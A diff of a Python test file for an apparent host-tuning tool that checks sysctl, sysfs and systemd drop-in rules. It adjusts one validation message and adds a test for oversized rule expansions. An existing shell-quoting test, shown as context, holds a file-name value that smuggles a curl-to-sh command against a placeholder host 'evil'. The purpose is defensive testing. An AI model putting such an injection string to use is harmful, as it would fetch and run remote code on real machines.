@@ -309,7 +309,7 @@ def told_of(*wishes, others=""):
         ("{dropin: /x, template: nfs-read-ahead.conf.j2, trigger: \"{{ 'restart' }}\"}", "trigger must be one of daemon-reload"),
         ("{dropin: /x, template: nfs-read-ahead.conf.j2, activation: \"{{ 'zz' }}\"}", "activation must be one of "),
         ("{sysfs: /sys/block/sda/queue/scheduler, exactly: none, persist: \"{{ 'zz' }}\"}", "persist must be one of "),
-        ('{sysctl: vm.swappiness, exactly: "{{ policy }}"}', "exactly must be a text, a number"),
+        ('{sysctl: vm.swappiness, exactly: "{{ policy }}"}', "exactly of a sysctl must be a text, a number"),
         ("{dropin: /x, template: nfs-read-ahead.conf.j2, vars: {self: 1}}", "template nfs-read-ahead.conf.j2: "),
         ("{dropin: /x, template: nfs-read-ahead.conf.j2}", "template nfs-read-ahead.conf.j2: "),
     ],
@@ -358,3 +358,20 @@ def test_shell_word_is_one_word_for_a_shell():
     name = "/data2;curl${IFS}evil|sh;#'$(id)`id`\n"
     text = compile_text("printf %s {{ shell_word(item) }}", Where("x.yaml")).evaluate({"item": name})
     assert subprocess.run(["sh", "-c", text], capture_output=True, text=True, check=True).stdout == name
+
+
+def test_rule_with_more_wishes_than_can_be_compared_is_unknown_and_others_go_on():
+    digits = "(0, 1, 2, 3, 4, 5, 6, 7, 8, 9)"
+    items = f"[str(a) + str(b) {' '.join(f'for {name} in {digits}' for name in 'abcd')}]"
+    text = (
+        RULE[: RULE.index("want:")]
+        + f"for_each: {json.dumps(items)}\nwant:\n  - {{sysctl: vm.swappiness, at_most: 1}}\n"
+    )
+    policy = "select: [site-swappiness, memory-swappiness]"
+    reader = FakeReader({f"{FOLDER}/site-swappiness.yaml": text, "/etc/hosttune/policy.yaml": policy})
+    found = load_catalog(reader)
+    plan = examine(reader, found, load_policy(reader, found)).plan(prove=False)
+    (own,) = (one for one in plan.findings if one.rule == "site-swappiness")
+    assert own.verdict is Verdict.UNKNOWN
+    assert "it takes more than" in own.reason
+    assert any(one.rule == "memory-swappiness" for one in plan.findings)
